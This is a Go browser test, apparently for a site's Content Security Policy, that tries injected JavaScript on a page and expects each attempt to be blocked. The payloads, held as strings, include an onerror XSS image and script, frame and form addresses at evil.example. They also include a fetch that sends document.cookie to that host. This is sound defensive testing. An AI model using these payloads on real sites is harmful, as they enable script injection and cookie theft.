package main

import (
	"testing"

	"github.com/chromedp/chromedp"
)

// TestABrowserRunsNothingThatIsNotOurs tries what a hostile text would, had it
// found a way onto a page: the policy of the page refuses each. Scripts of
// tests run beside the policy, what they put on the page does not.
func TestABrowserRunsNothingThatIsNotOurs(t *testing.T) {
	p := newTab(t)
	url := site(t)
	for _, part := range []string{"Content Security Policy", "Content Security policy", "TrustedHTML", "TrustedScript", "evil.example"} {
		p.expect(part)
	}
	p.do("open", chromedp.Navigate(url+"/theme/service-mesh"))
	for name, attack := range map[string]string{
		"markup from text":      `(() => { try { document.body.innerHTML = "<img src=x onerror='globalThis.hit=1'>" } catch (e) { return e instanceof TypeError } return false })()`,
		"a policy of one's own": `(() => { try { trustedTypes.createPolicy("evil", {createHTML: (s) => s}) } catch (e) { return e instanceof TypeError } return false })()`,
		"an address as script":  `(() => { try { document.createElement("script").src = "https://evil.example/x.js" } catch (e) { return e instanceof TypeError } return false })()`,
		"a worker's address":    `(() => { try { new Worker("data:text/javascript,1") } catch (e) { return true } return false })()`,
		"an inline handler":     `(() => { try { document.createElement("button").setAttribute("onclick", "globalThis.hit=1") } catch (e) { return e instanceof TypeError } return false })()`,
		"a frame":               `new Promise((done) => { addEventListener("securitypolicyviolation", () => done(true), {once: true}); const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f) })`,
		"telling someone else":  `fetch("https://evil.example/?" + document.cookie).then(() => false, () => true)`,
		"an image from there":   `new Promise((done) => { const i = new Image(); i.onerror = () => done(true); i.onload = () => done(false); i.src = "https://evil.example/x.png" })`,
		"a form that goes away": `new Promise((done) => { addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective === "form-action"), {once: true});
			const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => done(false), 30000) })`,
	} {
		if !eval[bool](p, attack) {
			t.Errorf("%s was possible", name)
		}
	}
	if eval[bool](p, "globalThis.hit !== undefined") {
		t.Error("something ran")
	}
}
